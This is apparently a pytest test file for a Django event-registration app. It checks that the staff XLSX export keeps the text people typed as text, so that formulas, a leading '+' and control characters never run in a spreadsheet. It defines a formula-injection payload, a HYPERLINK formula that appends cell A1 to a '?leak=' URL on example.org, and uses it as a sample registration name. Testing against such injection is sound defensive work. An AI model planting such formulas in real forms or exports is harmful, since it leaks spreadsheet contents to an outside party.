"""The office downloads the registrations of a date as XLSX: one row per registration in
order of arrival, the answers in a column each, and what people typed in stays text."""

import io

import pytest
from django_scopes import scope
from openpyxl import load_workbook

from conftest import signed_in_client
from querschnitt.core.routing import municipality_reverse
from querschnitt.events.models import Question
from querschnitt.events.services.formats import question_create
from querschnitt.events.services.registrations import registration_submit
from querschnitt.events.tests.helpers import ADMIN, first_date, make_event, office_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"Details")'


def test_the_export_lists_every_registration_and_keeps_typed_text_as_text(mannheim) -> None:
    event = make_event(mannheim)
    with scope(municipality=mannheim):
        question = question_create(
            event=event, by=office_user(), label={"de": "Anmerkung"}, kind=Question.Kind.TEXT
        )
        date = first_date(event)
        registration_submit(date=date, name="Aylin Demir", email="a@example.org", places=2)
        registration_submit(
            date=date,
            name=FORMULA,
            email="b@example.org",
            organisation_name="+49 Verein\x07",
            answers={str(question.pk): "=1+1"},
        )
    url = municipality_reverse(mannheim, "staff:date_export", pk=date.pk)
    response = signed_in_client(ADMIN).get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="anmeldungen-{date.pk}.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    # the staff area speaks German; "Places" are seats here, not locations ("Orte")
    assert header[:4] == ["Reihenfolge der Anmeldung", "Status", "Plätze", "Name"]
    assert header[-1] == "Anmerkung"
    assert [row[3].value for row in rows[1:]] == ["Aylin Demir", FORMULA]
    assert rows[1][2].value == 2  # numbers stay numbers
    second = rows[2]
    # a spreadsheet program opening the file must show the typed text, never run it
    assert second[3].data_type == "s"
    assert second[-1].value == "=1+1"
    assert second[-1].data_type == "s"
    # a control character XLSX cannot hold is left out instead of breaking the download
    assert second[5].value == "+49 Verein"


def test_places_of_a_registration_are_seats_and_the_bodies_places_are_locations(mannheim) -> None:
    """One English word, two German ones: "Plätze" in the events, "Orte" in the bodies."""
    event = make_event(mannheim)
    with scope(municipality=mannheim):
        date = first_date(event)
        registration_submit(date=date, name="Aylin Demir", email="a@example.org", places=2)
    client = signed_in_client(ADMIN)
    detail = client.get(municipality_reverse(mannheim, "staff:date_detail", pk=date.pk))
    assert ">Plätze</th>" in detail.text
    assert ">Orte</th>" not in detail.text
    locations = client.get(municipality_reverse(mannheim, "staff:location_list"))
    assert '<h1 class="kern-heading-large">Orte</h1>' in locations.text
